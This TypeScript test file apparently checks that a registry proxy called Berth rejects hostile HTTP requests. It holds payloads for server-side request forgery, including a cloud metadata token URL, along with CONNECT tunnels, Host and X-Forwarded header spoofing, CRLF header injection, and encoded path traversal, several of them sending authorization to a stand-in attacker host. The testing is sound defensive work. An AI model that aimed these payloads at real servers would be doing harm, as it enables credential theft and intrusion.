import { type Attack, requestBytes } from './attack.ts';
import type { Facts } from './facts.ts';

/** Berth used as a forward proxy: absolute form, CONNECT, and targets that another parser takes for a host. */
export function forwardProxyAttacks(facts: Facts): Attack[] {
  const { login, data, attacker, drop, loot, authorization } = facts;
  const auth = [`Authorization: ${authorization}`];
  const elsewhere = `https://${attacker.host}${drop}`;
  const attacks: Attack[] = [];
  for (const to of [login, data]) {
    const add = (line: string, host: string, wanted: number) =>
      attacks.push({
        what: `${line.slice(0, 60)} with Host ${host} at ${to}`,
        to,
        bytes: requestBytes(line, host, auth, loot),
        wanted: [wanted],
      });
    for (const host of [to, attacker.host]) {
      add(`PUT ${elsewhere}`, host, 421);
      add(`GET ${elsewhere}`, host, 421);
      add(`PUT http://${attacker.host}:443${drop}`, host, 421);
      add(`GET http://169.254.169.254/metadata/identity/oauth2/token`, host, 421);
      add(`GET http://127.0.0.1:9465/metrics`, host, 421);
      add(`PUT https://${to}@${attacker.host}${drop}`, host, 400);
      add(`PUT https://${to}\\@${attacker.host}${drop}`, host, 400);
      add(`PUT ftp://${attacker.host}${drop}`, host, 400);
      add(`PUT ${attacker.host}:443`, host, 400);
      // The authority of the target counts, not the field: this is the login server's own read-only 405.
      add(`PUT https://${login}/v2/public/app/manifests/loot`, host, 405);
    }
    for (const target of [`${attacker.host}:443`, `${login}:443`, '169.254.169.254:80', '[::1]:443']) {
      attacks.push({
        what: `CONNECT ${target} at ${to}`,
        to,
        bytes: `CONNECT ${target} HTTP/1.1\r\nHost: ${target}\r\n\r\nPUT ${drop} HTTP/1.1\r\nHost: ${attacker.host}\r\n\r\n`,
        wanted: [405],
      });
    }
  }
  return attacks;
}

/** The Host field as a way to choose where Berth goes, or what it writes into its answers. */
export function hostAttacks({ login, data, attacker, drop, loot }: Facts): Attack[] {
  const rows: readonly (readonly [host: string, wanted: number])[] = [
    [attacker.host, 421],
    [attacker.address, 421],
    [`${login}.${attacker.host}`, 421],
    [`x.${login}`, 421],
    [`${login}:8443`, 421],
    // The root's own dot: the same host, where no such path is.
    [`${login}.`, 404],
    ['169.254.169.254', 421],
    ['localhost', 421],
    ['', 400],
    [`${login}@${attacker.host}`, 400],
    [`${attacker.host}#${login}`, 400],
    [`${login}/../${attacker.host}`, 400],
    [`${login}, ${attacker.host}`, 400],
    [`${login}\r\nHost: ${attacker.host}`, 400],
    [`${login}\r\nhost: ${login}`, 400],
    [`${login}\t${attacker.host}`, 400],
    [`${login}%00${attacker.host}`, 400],
  ];
  return [login, data].flatMap((to) =>
    rows.map(([host, wanted]) => ({
      what: `Host ${JSON.stringify(host)} at ${to}`,
      to,
      bytes: requestBytes(`PUT ${drop}`, host, [], loot),
      wanted: [wanted],
    })),
  );
}

/** Fields that some server in between believes; links come from the configuration, so the answer must not change. */
export function forwardedHostAttacks({
  login,
  attacker,
  repository,
  digest,
  authorization,
}: Facts): Attack[] {
  const fields = [
    `X-Forwarded-Host: ${attacker.host}`,
    `X-Forwarded-Server: ${attacker.host}`,
    `Forwarded: host=${attacker.host};proto=http`,
    `X-Host: ${attacker.host}`,
    `X-Original-URL: https://${attacker.host}/loot`,
    `X-Rewrite-URL: /loot`,
    'X-Forwarded-Proto: http',
    'X-Forwarded-Port: 80',
    'X-HTTP-Method-Override: PUT',
    'X-Method-Override: PUT',
    `Destination: https://${attacker.host}/loot`,
    'Upgrade: h2c',
    'Connection: upgrade, host, authorization',
  ];
  const get = (path: string, more: string[], wanted: number): Attack => ({
    what: `GET ${path} with fields of proxies`,
    to: login,
    bytes: requestBytes(`GET ${path}`, login, [...fields, ...more]),
    wanted: [wanted],
  });
  return [
    get('/v2/', [], 401),
    get(`/v2/${repository}/blobs/${digest}`, [`Authorization: ${authorization}`], 307),
  ];
}

/** Paths that decode to something else than they are. */
export function pathAttacks({
  login,
  data,
  attacker,
  repository,
  digest,
  authorization,
  ticket,
}: Facts): Attack[] {
  const atLogin: readonly (readonly [path: string, wanted: number])[] = [
    ['/v2/../loot', 404],
    ['/v2/%2e%2e/loot', 404],
    ['/v2/%2E%2E%2Floot/manifests/1', 400],
    [`/v2/${repository}/../../loot/manifests/1`, 400],
    [`/v2/${repository}/%2e%2e/loot/manifests/1`, 400],
    [`/v2/public%2floot/manifests/1`, 400],
    [`/v2/public%5cloot/manifests/1`, 400],
    [`/v2/public\\loot/manifests/1`, 400],
    [`/v2//loot/manifests/1`, 400],
    [`/v2/loot/manifests/..%2f..%2floot`, 404],
    [`/v2/loot/manifests/1%00`, 404],
    [`/v2/loot/blobs/${digest}%2f..%2floot`, 400],
    [`/v2/loot/blobs/${digest}%0d%0aHost:%20${attacker.host}`, 400],
    [`/v2/loot/blobs/uploads/..%2floot`, 404],
    [`//${attacker.host}/loot`, 404],
    [`/${attacker.host}/loot`, 404],
    [`/loot`, 404],
    [`/v2/loot%252f..%252f/manifests/1`, 400],
    [`/oauth2/token/../loot`, 404],
    [`/oauth2/%74oken/loot`, 404],
  ];
  const atData = [
    `/..${ticket}`,
    `/.${ticket}`,
    `//${attacker.host}${ticket}`,
    `/%2e%2e${ticket}`,
    `/loot${ticket}`,
  ];
  return [
    ...atLogin.map(([path, wanted]) => ({
      what: `GET ${path}`,
      to: login,
      bytes: requestBytes(`GET ${path}`, login, [`Authorization: ${authorization}`]),
      wanted: [wanted],
    })),
    ...atData.map((path) => ({
      what: `data endpoint: GET ${path.slice(0, 30)}`,
      to: data,
      bytes: requestBytes(`GET ${path}`, data),
      wanted: [403],
    })),
  ];
}
